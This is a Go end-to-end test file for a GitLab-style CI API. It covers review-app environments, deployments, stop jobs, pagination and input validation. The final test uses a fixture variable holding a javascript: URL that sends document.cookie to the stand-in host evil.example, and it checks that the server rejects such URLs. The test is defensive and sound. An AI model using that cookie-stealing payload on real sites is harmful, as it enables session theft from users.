package projecttest_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/jobapi/jobapi/api"
	"github.com/jobapi/jobapi/e2e/jobapitest"
	"github.com/jobapi/jobapi/runnerclient"
)

// reviewAppYAML is GitLab's review-app shape: a deploy job per branch whose environment
// names the branch, and a manual job that stops it.
const reviewAppYAML = `
stages: [deploy, cleanup]
variables:
  APP_DOMAIN: apps.example.com
deploy_review:
  stage: deploy
  script: ./deploy.sh
  environment:
    name: review/$CI_COMMIT_REF_SLUG
    url: https://$CI_ENVIRONMENT_SLUG.$APP_DOMAIN
    on_stop: stop_review
stop_review:
  stage: cleanup
  script: ./stop.sh
  when: manual
  environment:
    name: review/$CI_COMMIT_REF_SLUG
    action: stop
`

// TestEnvironmentVariablesReachTheRunner: environment names and urls are expanded when the
// pipeline is created, and the jobs of an environment get CI_ENVIRONMENT_* (the stop job
// with action stop once it is played).
func TestEnvironmentVariablesReachTheRunner(t *testing.T) {
	t.Parallel()
	inst := jobapitest.Start(t, jobapitest.Options{})
	var proj api.Project
	inst.MustDo(t, http.StatusCreated, "POST", "/api/v4/projects", map[string]any{"name": "app", "default_branch": "main"}, &proj)
	resp, b := inst.Do(t, "POST", jobapitest.ProjectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
	jobapitest.WantStatus(t, resp, b, http.StatusCreated)
	p := jobapitest.Decode[api.Pipeline](t, b)

	r := inst.NewRunner(t)
	// The first attempt fails and is retried: each attempt is a deployment.
	first := r.TakeNamed(t, "deploy_review")
	r.Finish(t, first, runnerclient.StateFailed, "script_failure")
	inst.MustDo(t, http.StatusCreated, "POST", fmt.Sprintf("%s/jobs/%d/retry", jobapitest.ProjectPath(proj.ID), first.ID), nil, nil)
	deploy := r.TakeNamed(t, "deploy_review")
	deps := listDeployments(t, inst, proj.ID)
	if len(deps) != 2 || deps[0].Status != "failed" || deps[0].Deployable.ID != first.ID || deps[0].FinishedAt == nil ||
		deps[1].Status != "running" || deps[1].Deployable.ID != deploy.ID || deps[1].FinishedAt != nil {
		t.Fatalf("deployments while the retry runs: %+v, want the failed attempt and the running one", deps)
	}
	envs := listEnvironments(t, inst, proj.ID)
	if len(envs) != 1 || envs[0].Name != "review/feature-login-page" || envs[0].Slug != "review-feature-lo-kxm5zt" ||
		envs[0].State != "available" || envs[0].Tier != "development" || envs[0].ExternalURL == nil ||
		*envs[0].ExternalURL != "https://review-feature-lo-kxm5zt.apps.example.com" {
		t.Fatalf("environments: %+v, want review/feature-login-page, available, with its url", envs)
	}
	env := getEnvironment(t, inst, proj.ID, envs[0].ID)
	if env.LastDeployment != nil {
		t.Errorf("last_deployment %+v before any deployment succeeded, want null", env.LastDeployment)
	}
	wantVariables(t, deploy, map[string]string{
		"CI_ENVIRONMENT_NAME":   "review/feature-login-page",
		"CI_ENVIRONMENT_SLUG":   "review-feature-lo-kxm5zt",
		"CI_ENVIRONMENT_URL":    "https://review-feature-lo-kxm5zt.apps.example.com",
		"CI_ENVIRONMENT_ACTION": "start",
		"CI_ENVIRONMENT_TIER":   "development",
	})
	r.Finish(t, deploy, runnerclient.StateSuccess, "")
	r.NoJob(t) // the stop job is manual
	env = getEnvironment(t, inst, proj.ID, envs[0].ID)
	if last := env.LastDeployment; env.State != "available" || last == nil || last.Status != "success" ||
		last.Deployable.ID != deploy.ID || last.Deployable.Name != "deploy_review" || last.Deployable.Pipeline.ID != p.ID ||
		last.Ref != "Feature/Login-Page" || last.Sha != p.Sha || last.Environment.Name != "review/feature-login-page" || last.FinishedAt == nil {
		t.Fatalf("environment after the deploy: %+v, last deployment %+v; want available, the retry's deployment succeeded", env, last)
	}

	stop := jobapitest.JobByName(t, p, "stop_review")
	inst.MustDo(t, http.StatusOK, "POST", fmt.Sprintf("%s/jobs/%d/play", jobapitest.ProjectPath(proj.ID), stop.ID), nil, nil)
	stopJob := r.TakeNamed(t, "stop_review")
	wantVariables(t, stopJob, map[string]string{
		"CI_ENVIRONMENT_NAME":   "review/feature-login-page",
		"CI_ENVIRONMENT_SLUG":   "review-feature-lo-kxm5zt",
		"CI_ENVIRONMENT_ACTION": "stop",
		"CI_ENVIRONMENT_TIER":   "development",
	})
	if v, ok := stopJob.Variable("CI_ENVIRONMENT_URL"); ok {
		t.Errorf("stop job has CI_ENVIRONMENT_URL %q; it gives no url", v)
	}
	if got := getEnvironment(t, inst, proj.ID, envs[0].ID); got.State != "available" {
		t.Errorf("environment %s while its stop job runs, want available", got.State)
	}
	r.Finish(t, stopJob, runnerclient.StateSuccess, "")
	if got := getEnvironment(t, inst, proj.ID, envs[0].ID); got.State != "stopped" || got.LastDeployment == nil || got.LastDeployment.Deployable.ID != deploy.ID {
		t.Errorf("environment after its stop job: %+v, want stopped, its last deployment kept", got)
	}
	if deps := listDeployments(t, inst, proj.ID); len(deps) != 2 {
		t.Errorf("%d deployments after the stop job, want 2: a stop job does not deploy", len(deps))
	}

	// A new deploy of the same environment makes it available again; pages hold one each.
	resp, b = inst.Do(t, "POST", jobapitest.ProjectPath(proj.ID)+"/pipeline", map[string]any{"ref": "Feature/Login-Page", "ci_config": reviewAppYAML})
	jobapitest.WantStatus(t, resp, b, http.StatusCreated)
	again := r.TakeNamed(t, "deploy_review")
	r.Finish(t, again, runnerclient.StateSuccess, "")
	if got := getEnvironment(t, inst, proj.ID, envs[0].ID); got.State != "available" || got.LastDeployment == nil || got.LastDeployment.Deployable.ID != again.ID {
		t.Errorf("environment after a new deploy: %+v, want available with the new deployment", got)
	}
	if n := len(listEnvironments(t, inst, proj.ID)); n != 1 {
		t.Errorf("%d environments, want the one: a name is unique per project", n)
	}
	resp, b = inst.Do(t, "GET", jobapitest.ProjectPath(proj.ID)+"/deployments?page=2&per_page=2", nil)
	jobapitest.WantStatus(t, resp, b, http.StatusOK)
	page := jobapitest.Decode[[]api.Deployment](t, b)
	if len(page) != 1 || page[0].Deployable.ID != again.ID || resp.Header.Get("X-Total") != "3" ||
		resp.Header.Get("X-Total-Pages") != "2" || resp.Header.Get("X-Page") != "2" || resp.Header.Get("X-Next-Page") != "" {
		t.Errorf("deployments page 2 of 2: %d items, headers %v", len(page), resp.Header)
	}

	// Other projects see none of it; an unknown environment is a 404.
	if n := len(listEnvironments(t, inst, proj.ID+1)); n != 0 {
		t.Errorf("another project lists %d environments", n)
	}
	resp, b = inst.Do(t, "GET", fmt.Sprintf("%s/environments/%d", jobapitest.ProjectPath(proj.ID+1), envs[0].ID), nil)
	jobapitest.WantJSONError(t, resp, b, http.StatusNotFound)
}

func listEnvironments(t *testing.T, inst *jobapitest.Instance, pid int64) []api.Environment {
	t.Helper()
	var out []api.Environment
	inst.MustDo(t, http.StatusOK, "GET", jobapitest.ProjectPath(pid)+"/environments", nil, &out)
	return out
}

func getEnvironment(t *testing.T, inst *jobapitest.Instance, pid, id int64) api.Environment {
	t.Helper()
	var out api.Environment
	inst.MustDo(t, http.StatusOK, "GET", fmt.Sprintf("%s/environments/%d", jobapitest.ProjectPath(pid), id), nil, &out)
	return out
}

func listDeployments(t *testing.T, inst *jobapitest.Instance, pid int64) []api.Deployment {
	t.Helper()
	var out []api.Deployment
	inst.MustDo(t, http.StatusOK, "GET", jobapitest.ProjectPath(pid)+"/deployments", nil, &out)
	return out
}

// TestEnvironmentBadInput: a wrong environment is a 400 naming it, and nothing is written.
func TestEnvironmentBadInput(t *testing.T) {
	t.Parallel()
	inst := jobapitest.Start(t, jobapitest.Options{})
	for name, c := range map[string]struct{ yaml, want string }{
		"unknown action": {"deploy:\n  script: x\n  environment:\n    name: production\n    action: destroy\n",
			"jobs:deploy:environment:action should be one of: start, prepare, stop, verify, access (line 5)"},
		"on_stop undefined": {"deploy:\n  script: x\n  environment:\n    name: review\n    on_stop: stop_review\n",
			"jobs:deploy:environment:on_stop job stop_review is not defined (line 5)"},
		"name expands to nothing": {"deploy:\n  script: x\n  environment: $NOWHERE\n",
			`jobs:deploy:environment:name expands to "", which is empty (line 3)`},
	} {
		resp, b := inst.Do(t, "POST", jobapitest.ProjectPath(7)+"/pipeline?ref=main", c.yaml, "Content-Type", "application/yaml")
		if msg := jobapitest.WantJSONError(t, resp, b, http.StatusBadRequest); !strings.Contains(msg, c.want) {
			t.Errorf("%s: message %q, want %q", name, msg, c.want)
		}
	}
	if n := jobapitest.QueryInt(t, inst.Pool, "SELECT count(*) FROM pipelines"); n != 0 {
		t.Errorf("%d pipelines written by refused requests", n)
	}
}

func wantVariables(t *testing.T, job *runnerclient.Job, want map[string]string) {
	t.Helper()
	for k, v := range want {
		if got, ok := job.Variable(k); !ok || got != v {
			t.Errorf("job %s: %s = %q (present %v), want %q", job.JobInfo.Name, k, got, ok, v)
		}
	}
}

// TestEnvironmentURLMustBeWeb: a pipeline whose environment:url is not http(s) once
// expanded (javascript: through a variable here) is refused with a 400 naming the job and
// the key; nothing is created.
func TestEnvironmentURLMustBeWeb(t *testing.T) {
	t.Parallel()
	inst := jobapitest.Start(t, jobapitest.Options{})
	var proj api.Project
	inst.MustDo(t, http.StatusCreated, "POST", "/api/v4/projects", map[string]any{"name": "app", "default_branch": "main"}, &proj)
	src := "variables:\n  LINK: 'javascript:fetch(\"//evil.example/\"+document.cookie)'\n" +
		"deploy:\n  script: ./deploy.sh\n  environment:\n    name: production\n    url: $LINK\n"
	resp, b := inst.Do(t, "POST", jobapitest.ProjectPath(proj.ID)+"/pipeline", map[string]any{"ref": "main", "ci_config": src})
	jobapitest.WantStatus(t, resp, b, http.StatusBadRequest)
	if msg := jobapitest.Decode[api.Error](t, b).Message; !strings.Contains(msg, "jobs:deploy:environment:url") || !strings.Contains(msg, "http or https") {
		t.Fatalf("message %q, want it to name jobs:deploy:environment:url and say http or https", msg)
	}
	if envs := listEnvironments(t, inst, proj.ID); len(envs) != 0 {
		t.Fatalf("environments after a refused pipeline: %+v", envs)
	}
}
